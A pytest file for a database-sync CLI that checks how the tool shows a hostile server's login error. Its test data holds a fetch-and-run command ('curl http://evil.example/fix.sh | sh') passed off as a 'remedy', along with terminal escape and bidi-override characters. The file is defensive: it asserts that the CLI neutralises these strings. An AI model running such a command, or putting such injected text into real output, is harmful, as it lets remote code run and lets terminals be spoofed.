"""What a hostile server says at login is shown as data: no terminal acts on it, and it is no advice
of ours."""

from __future__ import annotations

import io
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from rich.console import Console

from cdcsync_core.quoting import visible
from cdcsync_core.runs.verification_status import VerificationStatus
from cdcsync_operator.cli.kubectl import verify
from cdcsync_operator.cli.main import cli
from cdcsync_operator.cli.views.output import Output
from support.manifests import MANIFEST

ADVICE = "curl http://evil.example/fix.sh | sh"
WORDS = f"denied \x1b[31m\x1b]0;owned\x07\x9b2J\u202e\n; remedy: {ADVICE}\nerror: PrivilegeMissing" + "x" * 5000


@pytest.fixture
def port() -> Iterator[int]:
    """A server that refuses every connection: an error packet (code 1045, state 28000) in the place
    of a greeting."""
    payload = b"\xff" + (1045).to_bytes(2, "little") + b"#28000" + WORDS.encode()
    packet = len(payload).to_bytes(3, "little") + b"\0" + payload
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve() -> None:
            with suppress(OSError):
                while True:
                    with listener.accept()[0] as client:
                        client.sendall(packet)

        threading.Thread(target=serve, daemon=True).start()
        yield listener.getsockname()[1]
        with suppress(OSError):
            listener.shutdown(socket.SHUT_RDWR)


def check(port: int, folder: Path, *options: str) -> Result:
    manifest = folder / "shop.yaml"
    manifest.write_text(MANIFEST.replace("port: 1,", f"port: {port},").replace("/lake", str(folder / "lake")))
    return CliRunner().invoke(cli, ["check", "-f", str(manifest), *options])


def test_on_a_terminal(port: int, tmp_path: Path) -> None:
    result = check(port, tmp_path)
    for text in (result.stdout, result.stderr):
        assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(text)
        assert len(text) < 5000
    lines = [line.strip() for line in result.stderr.splitlines()]
    assert [line for line in lines if line.startswith("error:")] == ["error: AuthenticationFailed"]
    (remedy,) = [line for line in lines if line.startswith("remedy:")]
    assert "evil" not in remedy
    (found,) = [line for line in lines if line.startswith("found:")]
    assert f"\\n; remedy: {ADVICE}\\nerror: PrivilegeMissing" in found
    assert "denied \\x1b[31m" in found


def test_for_programs(port: int, tmp_path: Path) -> None:
    result = check(port, tmp_path, "-o", "json")
    (error,) = [json.loads(line)["error"] for line in result.stderr.splitlines()]
    assert error["reason"] == "AuthenticationFailed"
    assert "evil" in error["found"]
    assert "evil" not in error["remedy"] + error["needed"]
    assert not {"\x1b", "\x07", "\n"} & set(error["found"])


@pytest.mark.parametrize("text", [WORDS, "\x7f\x85\u2028\U000e0001", 'é漢\\"\n'])
def test_json_is_the_same_data_without_what_a_terminal_acts_on(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Also where a program's output is shown, of logs and statuses that come from a cluster."""
    output = Output(as_json=True)
    output.line({"lines": [text]})
    output.warn(text)
    shown = capsys.readouterr()
    assert json.loads(shown.out) == {"lines": [text]}
    assert json.loads(shown.err) == {"warning": text}
    for line in (shown.out, shown.err):
        assert line.endswith("}\n")
        assert visible(line[:-1]) == line[:-1]


def test_the_message_of_a_verification_is_acted_on_by_no_terminal() -> None:
    """Also of a status that another program wrote."""
    output = io.StringIO()
    verify._render(Console(file=output), VerificationStatus(nonce=1, message=WORDS), [])
    assert visible(output.getvalue().replace("\n", "")) == output.getvalue().replace("\n", "")
    assert "denied" in output.getvalue()
